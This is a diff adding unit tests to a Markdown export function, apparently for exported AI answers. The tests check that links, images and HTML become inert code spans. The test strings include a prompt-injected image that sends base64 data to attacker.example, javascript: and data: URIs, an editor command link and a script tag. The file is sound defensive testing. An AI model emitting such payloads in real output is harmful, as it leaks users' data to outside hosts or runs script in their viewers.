@@ -95,6 +95,38 @@ describe('Markdown export', () => {
   it('escapes backslashes so an answer cannot escape its own pipe', () => {
     assert.equal(markdownCell('a\\|b'), 'a\\\\\\|b');
   });
+
+  it('keeps the words of a prompt-injected image or link but makes its address inert', () => {
+    assert.equal(markdownCell('Done. ![](https://attacker.example/?d=c2VjcmV0) Bye.'), 'Done. image: `https://attacker.example/?d=c2VjcmV0` Bye.');
+    assert.equal(markdownCell('![the logo](https://cdn.example/logo.png "Logo")'), 'the logo (image: `https://cdn.example/logo.png`)');
+    assert.equal(markdownCell('[Open a terminal](command:workbench.action.terminal.new)'), 'Open a terminal (`command:workbench.action.terminal.new`)');
+    assert.equal(markdownCell('[click](javascript:fetch(1))'), 'click (`javascript:fetch(1`))');
+    assert.equal(markdownCell('[x](data:text/html;base64,PHNjcmlwdD4=)'), 'x (`data:text/html;base64,PHNjcmlwdD4=`)');
+    assert.equal(markdownCell('[https://shown.example](https://real.example)'), '`https://shown.example` (`https://real.example`)');
+  });
+
+  it('puts addresses a previewer would link by itself in code spans', () => {
+    assert.equal(markdownCell('see https://attacker.example/x?q=1, www.attacker.example or <https://a.example>.'), 'see `https://attacker.example/x?q=1`, `www.attacker.example` or `https://a.example`.');
+    assert.equal(markdownCell('mail ops@attacker.example now'), 'mail `ops@attacker.example` now');
+    assert.equal(markdownCell('![a](http://e.example/a|b`c)'), 'a (image: `http://e.example/a%7Cb%60c`)', 'nothing in the address ends the span or the cell');
+  });
+
+  it('leaves no Markdown link, image, raw HTML or code span of the answer\'s making in a whole export', () => {
+    const answers = [
+      '![](https://attacker.example/?d=1)',
+      '<img src="https://attacker.example/p.png"><script>alert(1)</script><a href="javascript:alert(1)">x</a>',
+      '[a][ref] and [ref]: https://attacker.example',
+      '`code with ![](https://attacker.example/in-code)` and `` ` `` ticks',
+      '&lt;img src=x&gt; spelled with entities',
+    ];
+    const text = toMarkdown(answers.map((answer, index) => row(`r${index}`, { index, answer })));
+    // The export's own code spans: an unescaped backtick opens one.
+    const outsideCode = text.replace(/(?<!\\)`[^`\n]*`/g, '');
+    assert.doesNotMatch(outsideCode, /(?<!\\)\]\(|(?<!\\)!\[|https?:|javascript:/, 'no link syntax or address outside a code span');
+    assert.doesNotMatch(text, /<(?!br>)[a-z/!]/i, 'no HTML tag but the line breaks the export writes');
+    assert.doesNotMatch(outsideCode, /(?<!\\)`/, 'every backtick of the answer is escaped');
+    assert.ok(text.includes('&amp;lt;img src=x&amp;gt;'), 'entities are shown, not decoded');
+  });
 });
 
 describe('JSONL export', () => {
